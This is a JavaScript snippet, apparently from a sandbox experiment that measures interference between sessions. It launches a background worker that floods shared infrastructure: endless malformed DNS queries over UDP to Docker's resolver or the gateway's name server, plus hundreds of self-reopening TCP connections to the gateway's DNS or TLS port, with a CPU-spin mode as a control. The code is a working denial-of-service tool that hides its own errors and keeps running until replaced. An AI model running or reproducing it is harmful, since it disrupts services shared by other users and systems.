// Floods what sessions share, from now on until it is run again, in a thread of its own. KIND: spin (the control: it only
// computes), docker (Docker's own resolver), names (the gateway's name server, by UDP and TCP), streams (its TLS port).
const { Worker } = require('worker_threads');
function flood(kind, gateway) {
  const dgram = require('dgram');
  const net = require('net');
  const question = Buffer.from('00010100000100000000000003363030056578616d706c65000001000100', 'hex').subarray(0, 29);
  const socket = dgram.createSocket('udp4').on('error', () => {});
  const ask = (host) => {
    for (let n = 0; n < 50; n += 1) socket.send(question, 53, host, () => {});
    setImmediate(ask, host);
  };
  const open = (host, port) => {
    const stream = net.connect({ host, port }).on('error', () => {});
    stream.on('close', () => setTimeout(open, 5, host, port));
  };
  if (kind === 'spin') for (;;);
  if (kind === 'docker') ask('127.0.0.11');
  if (kind === 'names') ask(gateway);
  const [host, port] = { docker: ['127.0.0.11', 53], names: [gateway, 53], streams: [gateway, 443] }[kind];
  for (let n = 0; n < 200; n += 1) open(host, port);
}
if (globalThis.flooding) await globalThis.flooding.terminate();
const source = `(${flood})(${JSON.stringify(KIND)}, ${JSON.stringify(GATEWAY)})`;
globalThis.flooding = new Worker(source, { eval: true }).on('error', () => {});
return KIND;
